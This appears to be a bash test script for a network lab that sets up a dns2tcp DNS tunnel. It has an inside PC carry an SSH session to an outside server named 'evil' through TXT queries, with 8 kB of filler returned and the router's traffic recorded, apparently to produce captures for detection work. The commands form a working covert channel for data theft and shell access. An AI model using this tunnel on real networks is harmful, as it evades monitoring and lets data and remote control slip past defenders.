#!/bin/bash
# A tunnel by dns2tcp (TXT questions): 10.20.0.66 asks the outside name server
# 198.51.100.53, which is dns2tcpd for d.example.org, and carries an SSH session
# in which 8 kB come back.
LAB_DELAY_MS=10
. "$(dirname "$0")/../../lab.sh"; lab
outside evil 198.51.100.53
inside pc 10.20.0.66
ssh_server evil
mkdir "$tmp/jail"; chmod 755 "$tmp"
printf 'listen = 198.51.100.53\nport = 53\nuser = nobody\nchroot = %s\ndomain = d.example.org\nresources = ssh:127.0.0.1:22\n' "$tmp/jail" >"$tmp/d.conf"
echo nameserver 127.0.0.1 >"$tmp/resolv.conf" # it looks its domain up before it begins
on evil unshare -m sh -c "mount --bind $tmp/resolv.conf /etc/resolv.conf; exec dns2tcpd -F -f $tmp/d.conf" >"$tmp/d.log" 2>&1 &
sleep 1
record router wan
on pc dns2tcpc -z d.example.org -r ssh -l 2222 198.51.100.53 >"$tmp/c.log" 2>&1 &
sleep 2
on pc timeout 60 ssh -q -p 2222 -i "$tmp/key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@127.0.0.1 'head -c 8000 /dev/zero | tr "\0" x' | wc -c
sleep 2
recorded
